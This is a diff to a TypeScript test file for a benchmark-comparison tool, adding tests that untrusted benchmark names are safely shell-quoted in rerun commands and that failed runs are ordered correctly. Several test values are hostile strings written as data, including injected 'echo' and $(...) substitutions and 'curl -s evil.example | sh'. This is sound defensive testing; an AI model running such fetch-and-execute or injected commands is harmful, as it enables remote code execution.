@@ -1,3 +1,4 @@
+import { execFileSync } from 'node:child_process'
 import { describe, expect, it } from 'vitest'
 import { comparison } from '../../../test/support/report-builders.js'
 import type { BenchmarkId } from '../../model/benchmark-result.js'
@@ -11,6 +12,18 @@ const inconclusive = (id: BenchmarkId, format: string) =>
   comparison({ id, format, base: 100, head: 108, class: 'inconclusive' })
 const unchanged = (id: BenchmarkId, format: string) =>
   comparison({ id, format, base: 100, head: 100, class: 'no-change' })
+/** A run that failed on `side` ("failed on the PR" for head and both), as compare records it. */
+const failed = (id: BenchmarkId, format: string, side: 'head' | 'base' | 'both' = 'head') => {
+  const failure = { message: 'could not open input' }
+  return {
+    ...comparison({ id, format, base: side === 'head' ? 100 : null, head: null, class: 'failed' }),
+    failure: {
+      side,
+      head: side === 'base' ? null : failure,
+      base: side === 'head' ? null : failure,
+    },
+  }
+}
 
 describe('rerunList', () => {
   it('names gated regressions and inconclusive comparisons once, in report order', () => {
@@ -22,6 +35,27 @@ describe('rerunList', () => {
       regression({ name: 'BM_D' }, 'google-benchmark-json', false),
     ])
     expect(list).toEqual(['BM_A', 'BM_C'])
+  })
+
+  it('puts the benchmarks that failed on the PR first, and leaves out a failure on base only', () => {
+    const comparisons = [
+      regression({ name: 'BM_A' }, 'google-benchmark-json'),
+      failed({ name: 'BM_Parse' }, 'google-benchmark-json'),
+      failed({ name: 'BM_Both' }, 'google-benchmark-json', 'both'),
+      failed({ name: 'BM_BaseOnly' }, 'google-benchmark-json', 'base'),
+      { ...failed({ name: 'BM_Info' }, 'google-benchmark-json'), gated: false },
+    ]
+    expect(rerunList(comparisons)).toEqual(['BM_Parse', 'BM_Both', 'BM_A'])
+    expect(rerunFilters(comparisons, OWN)).toEqual([
+      {
+        format: 'google-benchmark-json',
+        harness: 'Google Benchmark',
+        benchmarks: ['BM_Parse', 'BM_Both', 'BM_A'],
+        filter: '^(BM_Parse|BM_Both|BM_A)$',
+        command:
+          "<benchmark binary> --benchmark_filter='^(BM_Parse|BM_Both|BM_A)$' --benchmark_repetitions=20",
+      },
+    ])
   })
 })
 
@@ -144,5 +178,27 @@ describe('commands built from untrusted names', () => {
     const name = `sleep 1${' '.repeat(110)}; curl x|sh`
     const [filter] = rerunFilters([regression({ name }, 'hyperfine-json')], OWN)
     expect(filter?.command).toBe(`hyperfine --runs 30 $'sleep 1${'\\x20'.repeat(110)}; curl x|sh'`)
+  })
+
+  it('quotes a failed benchmark with a hostile name as data: one shell word, nothing run', () => {
+    const name = "BM_X'; echo INJECTED; echo '$(echo SUBSTITUTED)"
+    const [filter] = rerunFilters([failed({ name }, 'google-benchmark-json')], OWN)
+    expect(filter?.filter).toBe("^(BM_X'; echo INJECTED; echo '\\$\\(echo SUBSTITUTED\\))$")
+    expect(filter?.command).toBe(
+      "<benchmark binary> --benchmark_filter='^(BM_X'\\''; echo INJECTED; echo '\\''\\$\\(echo SUBSTITUTED\\))$' --benchmark_repetitions=20",
+    )
+    // The shell reads the word back as the filter itself, one argument, and runs nothing of it.
+    const word = (filter?.command ?? '').split('--benchmark_filter=')[1]?.split(' --benchmark_')[0]
+    const printed = execFileSync('bash', ['-c', `printf '%s\\0' ${word ?? ''}`], {
+      encoding: 'utf8',
+    })
+    expect(printed.split('\0')).toEqual([filter?.filter, ''])
+    expect(new RegExp(filter?.filter ?? '').test(name)).toBe(true)
+  })
+
+  it("offers no command for a hyperfine benchmark that failed on a fork's PR: its name is the fork's command", () => {
+    const comparisons = [failed({ name: 'sh run.sh; curl -s evil.example | sh' }, 'hyperfine-json')]
+    expect(rerunList(comparisons)).toEqual(['sh run.sh; curl -s evil.example | sh'])
+    expect(rerunFilters(comparisons, { foreignHead: true })).toEqual([])
   })
 })
